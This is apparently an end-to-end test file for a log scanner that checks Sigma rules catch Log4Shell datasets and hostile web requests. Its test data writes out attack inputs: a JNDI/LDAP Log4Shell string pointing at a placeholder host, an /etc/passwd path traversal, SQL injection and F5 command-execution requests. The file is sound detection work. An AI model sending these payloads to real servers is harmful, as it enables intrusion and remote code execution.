using Watchfloor.Engine.Tests;

namespace Watchfloor.EndToEnd.Tests.Scanning;

/// <summary>Known attacks in logs of the shapes in which they reach a collector, found by rules that know nothing of those shapes.</summary>
public sealed class SampleAttackTests : IDisposable
{
    private readonly Evidence _evidence = new();

    public void Dispose() => _evidence.Dispose();

    [Theory]
    [InlineData("securityauditing_log4shell_cve2021_44228_java_serialized_object", "7 findings", "Suspicious Execution of Powershell with Base64", "Non Interactive PowerShell Process Spawned")]
    [InlineData("sysmon_log4shell_cve2021_44228_java_serialized_object", "9 findings", "Suspicious Execution of Powershell with Base64", "Suspicious SYSTEM User Process Creation")]
    [InlineData("syslog_sysmon_log4shell_cve2021_44228_jndi_reference", "5 findings", "Suspicious Java Children Processes", "Linux Reverse Shell Indicator")]
    [InlineData("syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference", "3 findings", "Decode Base64 Encoded Text", "Local Groups Discovery - Linux")]
    public async Task Scan_Log4Shell_IsFoundInsideWhatAzureMonitorCarries(string set, string count, params string[] rules)
    {
        var run = await ProgramRun.Of("scan", SharedData.Require($"security-datasets/compound/Log4Shell/{set}.zip"),
            "--rules", SharedData.Require("sigma/rules"), "--output", "ndjson");
        Assert.Contains(count, run.Error, StringComparison.Ordinal);
        Assert.DoesNotContain("No log source", run.Error, StringComparison.Ordinal);
        var found = run.Findings.Select(f => f.GetProperty("rule.name").GetString()).ToHashSet();
        Assert.All(rules, rule => Assert.Contains(rule, found));
    }

    /// <summary>The shipped rules of the corpus look for paths in <c>cs-uri-query</c>, which an access log does not name.</summary>
    [Theory]
    [InlineData("GET /a/../../../../etc/passwd HTTP/1.1", "-", "Path Traversal Exploitation Attempts")]
    [InlineData("GET /x?q=%24%7bjndi:ldap://198.51.100.1/a%7d HTTP/1.1", "-", "Log4j RCE CVE-2021-44228 in Fields")]
    [InlineData("GET / HTTP/1.1", "${jndi:ldap://198.51.100.1/a}", "Log4j RCE CVE-2021-44228 in Fields")]
    [InlineData("GET /index.php?id=1%20union%20select%201 HTTP/1.1", "-", "SQL Injection Strings In URI")]
    [InlineData("POST /mgmt/tm/util/bash HTTP/1.1", "-", "F5 BIG-IP iControl Rest API Command Execution - Webserver")]
    [InlineData("GET /.git/config HTTP/1.1", "-", "Source Code Enumeration Detection by Keyword")]
    [InlineData("GET /index.html HTTP/1.1", "Mozilla/5.0", null)]
    public async Task Scan_AccessLog_RulesForWebServersFire(string request, string agent, string? rule)
    {
        var log = _evidence.Log("access.log", $"192.0.2.7 - - [01/Mar/2026:10:00:00 +0000] \"{request}\" 200 12 \"-\" \"{agent}\"\n");
        var run = await ProgramRun.Of("scan", log, "--rules", SharedData.Require("sigma/rules/web"), SharedData.Require("sigma/rules-emerging-threats/2021/Exploits"), "--output", "ndjson");
        var found = run.Findings.Select(f => f.GetProperty("rule.name").GetString()!).ToList();
        if (rule is null) Assert.Empty(found);
        else Assert.Contains(rule, found);
    }
}
